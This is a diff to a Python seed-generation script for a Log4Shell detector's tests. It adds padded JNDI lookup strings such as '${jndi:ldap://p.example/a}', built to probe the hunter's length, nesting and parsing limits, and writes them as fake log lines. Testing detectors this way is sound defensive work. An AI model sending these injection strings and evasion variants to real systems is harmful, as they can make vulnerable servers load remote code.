@@ -205,10 +205,18 @@ def main():
     head = [ln for ln in lines if ln.startswith(b"releases")]
     for i, sect in enumerate(rules.split(b"\n# ---")):
         open(os.path.join(rd, "section-%d.rules" % i), "wb").write(b"\n".join(head) + b"\n" + sect)
-    # loghunt: every payload and near miss of the tables, logged in an access-log line.
+    # loghunt: every payload, near miss and status case of the tables, logged
+    # in an access-log line; and padding past each bound of the hunter.
     ld = mkdir(OUT + "/seeds-loghunt")
     cases = os.path.join(os.path.dirname(os.path.abspath(__file__)), "cases")
-    for table in ("logs-payloads.tsv", "logs-near-misses.tsv"):
+    pads = {"expr-len": "${${" + "x" * 17000 + ":-}jndi:ldap://p.example/a}",
+            "msg-len": "$${jndi:ldap://p.example/a}" + " " * 16600 + "${x}",
+            "depth": "${lower:" * 140 + "${jndi:ldap://p.example/a}" + "}" * 140,
+            "passes": "$" * 600 + "{jndi:ldap://p.example/a}" + "${a}" * 600,
+            "unclosed": "${jndi:ldap://p.example/" + "a" * 17000 + "\n}"}
+    for name, text in pads.items():
+        open(os.path.join(ld, "pad-" + name), "wb").write(("2021-12-10 13:55:36,123 INFO x - %s\n" % text).encode())
+    for table in ("logs-payloads.tsv", "logs-near-misses.tsv", "logs-statuses.tsv"):
         for line in open(os.path.join(cases, table), encoding="utf-8"):
             f = line.rstrip("\n").split("\t")
             if line.startswith("#") or len(f) < 2:
